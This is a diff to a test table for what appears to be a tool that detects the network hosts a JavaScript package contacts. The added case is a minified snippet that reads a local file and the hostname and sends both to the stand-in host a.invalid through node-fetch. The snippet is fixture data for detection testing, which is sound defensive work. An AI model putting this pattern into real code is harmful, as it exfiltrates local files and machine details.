@@ -132,6 +132,13 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string | object
     },
     'https://a.invalid',
   ],
+  [
+    'what Rollup wraps, by a helper whose name a minifier took',
+    {
+      'index.js': `function e(e) { return e && 'object' == typeof e && 'default' in e ? e : { default: e } } var n = e(require('fs')), r = e(require('os')), t = e(require('node-fetch')); t.default('https://a.invalid/' + n.default.readFileSync('x') + r.default.hostname())`,
+    },
+    'https://a.invalid/*',
+  ],
   ['a member that is not there', { 'index.js': `fetch(require('./c.json').other)`, 'c.json': { host: 'https://a.invalid' } }, ''],
   ['broken JSON', { 'index.js': `fetch(require('./c.json').host)`, 'c.json': '{' }, ''],
   ['an inherited member', { 'index.js': `fetch(require('./c.json').constructor.name)`, 'c.json': {} }, ''],
